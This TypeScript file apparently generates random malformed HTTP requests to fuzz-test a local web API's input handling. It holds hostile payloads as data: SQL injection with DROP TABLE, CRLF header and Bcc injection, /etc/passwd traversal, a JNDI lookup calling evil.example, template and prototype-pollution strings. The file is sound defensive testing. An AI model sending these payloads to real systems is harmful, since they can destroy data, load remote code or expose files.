import { type ApiCall, apiCalls } from '@daybook/contract/api';

/** The raw bytes of a request. */
export interface HostileRequest {
  readonly what: string;
  readonly bytes: Buffer;
  /** The client disconnects before the request is complete; there may be no response. */
  readonly isCutOff: boolean;
}

/** Returns numbers from 0 to 1, exclusive. */
type Random = () => number;

/** Returns a whole number from 0 to `limit`, exclusive. */
const below = (random: Random, limit: number) => Math.floor(random() * limit);
const pick = <Item>(random: Random, items: readonly Item[]) => items[below(random, items.length)] as Item;

type Make<Made> = (random: Random) => Made;

const nested = (depth: number, open: string, close: string) => `${open.repeat(depth)}1${close.repeat(depth)}`;

/** Texts that do harm if they get unescaped into SQL, a header, a log, a page or a path. */
const texts: readonly Make<string>[] = [
  () => '',
  () => "'; DROP TABLE subscriber; --",
  () => "' OR '1'='1",
  () => '1); SELECT pg_sleep(10); --',
  () => '$1',
  () => 'a\r\nSet-Cookie: waitlist=1\r\n\r\n<script>alert(1)</script>',
  () => 'reader@example.com\r\nBcc: everybody@example.com',
  () => '../../../../etc/passwd',
  () => '\0',
  () => 'a\u202eb\u200b\ufeff\u0301',
  () => '\ud83d',
  () => '\ud83d\ude00'.repeat(50),
  () => '__proto__',
  () => `$${'{jndi:ldap://evil.example/a}'}`,
  () => '{{constructor.constructor("return process")()}}',
  (random) => 'x'.repeat(below(random, 90_000)),
  (random) => `${'a'.repeat(below(random, 300))}@${'b.'.repeat(below(random, 200))}c`,
  (random) => String.fromCharCode(...Array.from({ length: below(random, 60) }, () => below(random, 65_536))),
];

const values: readonly Make<unknown>[] = [
  ...texts,
  () => null,
  () => true,
  () => Number.MAX_SAFE_INTEGER + 2,
  () => -1.5e300,
  () => [],
  () => ({}),
  (random) => Array.from({ length: below(random, 2_000) }, (_, index) => index),
  () => ({ toString: 'x', valueOf: null, length: -1 }),
  () => ({ $gt: '' }),
  () => [['reader@example.com']],
];

const make = <Made>(random: Random, makers: readonly Make<Made>[]) => pick(random, makers)(random);

/** A valid body, whose fields are then corrupted. */
export const goodBodies: Readonly<Record<string, object>> = {
  signUp: { email: 'reader@example.com' },
  updateInformation: { firstName: 'Ada', lastName: 'Lovelace', zipCode: '10001' },
  selectOffers: { selectedOffers: ['grocery'] },
  notifyComplete: { source: 'page', timestamp: '2026-01-02T03:04:05Z', forceSend: true },
  sendEmergencyNotice: { email: 'reader@example.com', source: 'page', timestamp: '2026-01-02T03:04:05Z' },
  makePrivacyRequest: {
    kind: 'privacy-rights-request',
    email: 'reader@example.com',
    pageVersion: 'mf-privacy@1.0.0-3f9ac2d1',
    fields: { name: 'Ada', requestType: 'access', comments: '' },
  },
};

/** JSON texts that no call accepts. */
const bodies: readonly Make<string>[] = [
  (random) => JSON.stringify(make(random, values)),
  (random) => nested(1 + below(random, 20_000), '[', ']'),
  (random) => nested(1 + below(random, 8_000), '{"email":', '}'),
  () => '{"email":"nobody","email":7}',
  () => '{"__proto__":{"email":"reader@example.com"}}',
  () => '{"constructor":{"prototype":{"email":"reader@example.com"}}}',
  () => '{"email":"reader@example.com"',
  () => '{"email":"reader@example.com"}}',
  () => '\ufeff{"email":"reader@example.com"',
  () => "{'email':'reader@example.com'}",
  () => '{"email":NaN}',
  () => '[]',
  () => '',
  () => 'null',
  (random) => `{"email":"${'x'.repeat(100_000 + below(random, 100_000))}@example.com"}`,
];

const ids: readonly Make<string>[] = [
  (random) => encodeURIComponent(make(random, texts).toWellFormed()).slice(0, 3_000) || '0',
  () => '0',
  () => '-1',
  () => '1e9',
  () => '281474976710656',
  () => '%00',
  () => '%ZZ',
  () => '..%2f..%2fhealthz',
  // Well formed, but unknown.
  (random) => String(1 + below(random, 1_000_000)),
];

const headers: readonly Make<string>[] = [
  () => 'x-forwarded-for: 1.2.3.4, <script>',
  () => 'cookie: waitlist=1.forged; waitlist=%E0%A4%A; __proto__=1',
  () => `cookie: ${'a=b; '.repeat(1_000)}`,
  () => 'cookie: waitlist=1_2_3_4.AAAA',
  () => "user-agent: ' OR 1=1 --",
  () => 'accept-language: \x80\xff',
  () => 'transfer-encoding: identity',
  () => 'expect: a wonder',
  () => 'x: a\nset-cookie: waitlist=1',
  () => 'x\0y: z',
  () => 'origin: https://evil.example',
  () => 'content-encoding: gzip',
  () => `x: ${'y'.repeat(20_000)}`,
  () => 'upgrade: websocket\r\nconnection: upgrade',
];

const types: readonly Make<string>[] = [
  ...Array.from({ length: 8 }, () => () => 'application/json'),
  () => 'application/json; charset=utf-7',
  () => 'text/plain',
  () => 'application/x-www-form-urlencoded',
  () => 'multipart/form-data; boundary=x',
  () => 'application/json, text/html',
  () => '\t;;',
];

const calls = Object.entries<ApiCall>(apiCalls);

/** Returns a body in which one field, or everything, is invalid. */
function bodyFor(random: Random, name: string, call: ApiCall): string {
  const good = goodBodies[name];
  if (!good || !call.body || below(random, 3) === 0) return make(random, bodies);
  const spoiled = { ...good, [pick(random, Object.keys(good))]: make(random, values) };
  // Some of the texts are valid names: another body replaces them.
  return call.body.safeParse(spoiled).success ? make(random, bodies) : JSON.stringify(spoiled);
}

/** Returns a random invalid request to one of the calls. */
export function hostileRequest(random: Random, port: string): HostileRequest {
  const [name, call] = pick(random, calls);
  const query =
    name === 'findByEmail' ? `?email=${encodeURIComponent(make(random, texts).toWellFormed()).slice(0, 3_900)}` : '';
  const path = call.path
    .replace('{id}', () => make(random, ids))
    .replace('{step}', () => pick(random, ['2', '3', '-1', '%00', 'two', '2%0d%0a']));
  const hasBody = call.body !== undefined || below(random, 4) === 0;
  const body = hasBody ? Buffer.from(bodyFor(random, name, call)) : Buffer.alloc(0);
  const extra = below(random, 4) === 0 ? `${make(random, headers)}\r\n` : '';
  const isCutOff = body.length > 10 && below(random, 25) === 0;
  const type = hasBody ? `content-type: ${make(random, types)}\r\ncontent-length: ${body.length}\r\n` : '';
  const head = `${call.method} ${path}${query} HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nconnection: close\r\n${type}${extra}\r\n`;
  const sent = isCutOff ? body.subarray(0, below(random, body.length)) : body;
  return {
    what: JSON.stringify(`${head}${sent}`.slice(0, 600)),
    bytes: Buffer.concat([Buffer.from(head, 'latin1'), sent]),
    isCutOff,
  };
}
